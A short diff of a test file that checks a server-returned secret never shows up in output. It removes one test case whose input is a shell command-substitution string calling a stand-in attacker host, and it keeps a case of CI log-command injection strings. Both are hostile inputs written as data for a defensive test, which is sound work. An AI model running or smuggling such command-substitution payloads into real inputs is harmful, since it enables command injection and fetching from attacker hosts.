@@ -82,7 +82,6 @@ describe.concurrent('a secret that the server sends back is never exposed', () =
 
   it.each([
     ['commands', 'x\n::error::y\n##[error]z'],
-    ['a program for a shell', '$(curl evil.example)'],
     ['the token', ''],
   ])('%s, as a state: not in any output', async (_, text) => {
     await using stage = await setStage();
